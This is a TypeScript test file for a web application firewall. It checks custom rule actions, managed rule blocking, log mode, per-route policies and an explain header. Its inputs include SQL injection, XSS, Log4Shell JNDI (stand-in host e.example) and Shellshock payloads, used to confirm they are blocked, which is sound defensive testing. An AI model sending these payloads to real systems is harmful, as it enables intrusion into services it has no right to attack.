// The WAF inside workerd, through the real app: custom rules with each action, managed rules blocking, log mode,
// per-route policies and overrides, the explain header, and the corpus targets (≥ 95% detected, 0 false positives).
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import type { ConfigInput } from "../../core/config/index.ts";
import { runCorpus } from "../waf-corpus/run.ts";
import { type Echo, makeCaller, upstreams, url } from "./helpers.ts";

const service = { name: "web", backends: [{ url: url(upstreams.a) }] };

const base = {
  services: [service],
  routes: [
    { name: "open", match: { host: "open.test" }, service: "web", waf: { policy: "none" } },
    { name: "strict", match: { host: "strict.test" }, service: "web", waf: { paranoia: 2, threshold: 4 } },
    { name: "lenient", match: { host: "lenient.test" }, service: "web", waf: { threshold: 100 } },
    { name: "dry", match: { host: "dry.test" }, service: "web", waf: { mode: "log" } },
    { name: "partner", match: { host: "partner.test" }, service: "web", waf: { policy: "partners" } },
    { name: "main", service: "web" },
  ],
  waf: {
    rules: [
      { id: "no-admin", expression: 'http.request.uri.path wildcard "/admin*"', action: "block" },
      {
        id: "teapot",
        expression: 'http.request.uri.path eq "/teapot"',
        action: "block",
        status: 418,
        body: "short and stout",
      },
      { id: "watch-debug", expression: 'any(http.request.uri.args.names[*] eq "debug")', action: "log" },
      { id: "health", expression: 'http.request.uri.path eq "/health"', action: "skip" },
      { id: "office", expression: "ip.src in {198.51.100.0/24}", action: "allow" },
    ],
    policies: [
      {
        name: "partners",
        rules: [
          {
            id: "partner-key",
            expression: 'not len(http.request.headers["x-partner-key"]) gt 0',
            action: "block",
            status: 401,
          },
        ],
        managed: { paranoia: 1 },
      },
    ],
  },
} satisfies ConfigInput;

const SQLI = `?id=${encodeURIComponent("1' OR '1'='1")}`;
const { call, logs } = makeCaller(base);
const lastLog = () =>
  JSON.parse(logs.at(-1)!) as {
    waf?: { action: string; score: number; rules: string[] };
    status: number;
    error?: string;
  };
const passes = async (res: Response) => {
  expect(res.status).toBe(200);
  return (await res.json()) as Echo;
};

describe("custom rules", () => {
  it("block: 403 JSON with the request id and a stable code", async () => {
    const res = await call("http://main.test/admin/users");
    expect(res.status).toBe(403);
    const body = (await res.json()) as { error: { code: string; rules?: string[] }; request_id: string };
    expect(body.error.code).toBe("SY_WAF_BLOCKED");
    expect(body.request_id).toBe(res.headers.get("x-request-id"));
    expect(body.error.rules).toBeUndefined();
    expect(lastLog()).toMatchObject({
      status: 403,
      error: "SY_WAF_BLOCKED",
      waf: { action: "block", rules: ["no-admin"] },
    });
  });

  it("block with a custom status and body", async () => {
    const res = await call("http://main.test/teapot");
    expect(res.status).toBe(418);
    expect(res.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await res.text()).toBe("short and stout");
  });

  it("log: the request goes through and the log line names the rule", async () => {
    await passes(await call("http://main.test/page?debug=1"));
    expect(lastLog().waf).toEqual({ action: "log", score: 0, rules: ["watch-debug"] });
  });

  it("skip: the rest of the WAF, managed rules included, is skipped", async () => {
    await passes(await call(`http://main.test/health${SQLI}`));
    expect(lastLog().waf).toMatchObject({ action: "skip", rules: ["health"] });
  });

  it("allow: the request is let through whatever it carries", async () => {
    const init = { headers: { "cf-connecting-ip": "198.51.100.7" } };
    await passes(await call(`http://main.test/page${SQLI}`, init));
    expect(lastLog().waf).toMatchObject({ action: "allow", rules: ["office"] });
  });

  it("evaluates in order: the first deciding rule wins", async () => {
    const init = { headers: { "cf-connecting-ip": "198.51.100.7" } };
    const res = await call("http://main.test/admin", init);
    expect(res.status).toBe(403);
    expect(lastLog().waf?.rules).toEqual(["no-admin"]);
  });
});

describe("allow and rate limiting", () => {
  it("a request a custom rule allows is exempt from the route's rate limits; others are counted", async () => {
    const run = `waf-allow-${Date.now()}`;
    const limited = makeCaller(
      {
        services: [service],
        routes: [{ name: "rl", service: "web", rate_limit: run }],
        rate_limits: [{ name: run, key: "ip.src", limit: 1, period: "1m", deadline: "5s" }],
        waf: { rules: [{ id: "office", expression: "ip.src in {198.51.100.0/24}", action: "allow" }] },
      },
      {},
      { RATE_LIMITER: (env as unknown as Record<string, unknown>).RATE_LIMITER },
    );
    const from = (ip: string) => limited.call("http://rl.test/x", { headers: { "cf-connecting-ip": ip } });
    const statuses = async (ip: string) => {
      const out: number[] = [];
      for (let i = 0; i < 3; i++) {
        const res = await from(ip);
        out.push(res.status);
        await res.arrayBuffer();
      }
      return out;
    };
    expect(await statuses("198.51.100.4")).toEqual([200, 200, 200]);
    expect(await statuses("203.0.113.4")).toEqual([200, 429, 429]);
  });
});

describe("managed rules", () => {
  it("blocks SQL injection in the query, with the matched rule ids in the log", async () => {
    const res = await call(`http://main.test/products${SQLI}`);
    expect(res.status).toBe(403);
    const waf = lastLog().waf!;
    expect(waf.action).toBe("block");
    expect(waf.score).toBeGreaterThanOrEqual(5);
    expect(waf.rules).toContain("942100");
  });

  it("blocks XSS in a form body and forwards an ordinary form untouched", async () => {
    const form = (v: string) => ({
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams({ comment: v }).toString(),
    });
    expect((await call("http://main.test/echo", form("<img src=x onerror=alert(1)>"))).status).toBe(403);
    const ok = await call("http://main.test/echo", form("I'd like to select a table for two; thanks!"));
    expect(ok.status).toBe(200);
    expect(await ok.text()).toBe(
      new URLSearchParams({ comment: "I'd like to select a table for two; thanks!" }).toString(),
    );
  });

  it("inspects JSON bodies (names and values) and cookies", async () => {
    const json = {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ q: { x: "${jndi:ldap://e.example/a}" } }),
    };
    expect((await call("http://main.test/api", json)).status).toBe(403);
    expect(lastLog().waf?.rules).toContain("944150");
    const cookie = { headers: { cookie: "pref=<script>alert(1)</script>" } };
    expect((await call("http://main.test/", cookie)).status).toBe(403);
  });

  it("blocks scanners, restricted files and Shellshock in headers", async () => {
    expect((await call("http://main.test/", { headers: { "user-agent": "sqlmap/1.7" } })).status).toBe(403);
    expect((await call("http://main.test/.env")).status).toBe(403);
    expect((await call("http://main.test/", { headers: { referer: "() { :; }; /bin/id" } })).status).toBe(
      403,
    );
  });

  it("log mode passes what it would block, and says so", async () => {
    await passes(await call(`http://dry.test/${SQLI}`));
    expect(lastLog().waf).toMatchObject({ action: "log" });
    expect(lastLog().waf!.score).toBeGreaterThanOrEqual(5);
  });
});

describe("per-route settings", () => {
  it('policy "none" turns the WAF off for the route', async () => {
    await passes(await call(`http://open.test/admin${SQLI}`));
    expect(lastLog().waf).toBeUndefined();
  });

  it("a named policy replaces the global custom rules", async () => {
    expect((await call("http://partner.test/admin")).status).toBe(401);
    const ok = await call("http://partner.test/admin", { headers: { "x-partner-key": "k" } });
    expect(ok.status).toBe(200);
    expect((await call(`http://partner.test/x${SQLI}`, { headers: { "x-partner-key": "k" } })).status).toBe(
      403,
    );
  });

  it("paranoia and threshold per route", async () => {
    const tag = `?bio=${encodeURIComponent('<a href="/me">me</a>')}`;
    await passes(await call(`http://main.test/${tag}`));
    expect((await call(`http://strict.test/${tag}`)).status).toBe(403);
    expect(lastLog().waf?.rules).toContain("941200");
    await passes(await call(`http://lenient.test/${SQLI}`));
    expect(lastLog().waf?.action).toBe("log");
  });
});

describe("explain header", () => {
  const { call: callExplained } = makeCaller({ ...base, waf: { ...base.waf, explain_header: true } });

  it("lists the action, score and matched rule ids on blocks and passes", async () => {
    const blocked = await callExplained(`http://main.test/${SQLI}`);
    expect(blocked.headers.get("x-switchyard-waf")).toMatch(/^action=block; score=\d+\/5; rules=942100/);
    // Per managed rule: id, where, the transformations of the matched form, a short extract of the value.
    expect(blocked.headers.get("x-switchyard-waf")).toMatch(
      /; matched=942100@args:id\[[^\]]+\]"[^"]*1' or '1'='1/,
    );
    const body = (await blocked.json()) as { error: { rules: string[]; score: number } };
    expect(body.error.rules).toContain("942100");
    const passed = await callExplained("http://main.test/page?debug=1");
    expect(passed.headers.get("x-switchyard-waf")).toBe("action=log; score=0/5; rules=watch-debug");
    await passed.arrayBuffer();
    const dry = await callExplained(`http://dry.test/${SQLI}`);
    expect(dry.headers.get("x-switchyard-waf")).toMatch(/^action=log \(log mode: would block\); score=/);
    await dry.arrayBuffer();
  });

  it("is absent unless enabled", async () => {
    const res = await call(`http://main.test/${SQLI}`);
    expect(res.headers.get("x-switchyard-waf")).toBeNull();
  });
});

describe("corpus", () => {
  it("detects ≥ 95% of attacks at paranoia 1 with no false positives, inside workerd", () => {
    const r = runCorpus(1);
    expect(r.attacks.total).toBeGreaterThanOrEqual(150);
    expect(r.benign.total).toBeGreaterThanOrEqual(100);
    expect(r.attacks.rate).toBeGreaterThanOrEqual(0.95);
    expect(r.benign.falsePositives.map((f) => f.entry)).toEqual([]);
    for (const c of r.categories) expect(c.total, c.category).toBeGreaterThan(0);
  });
});
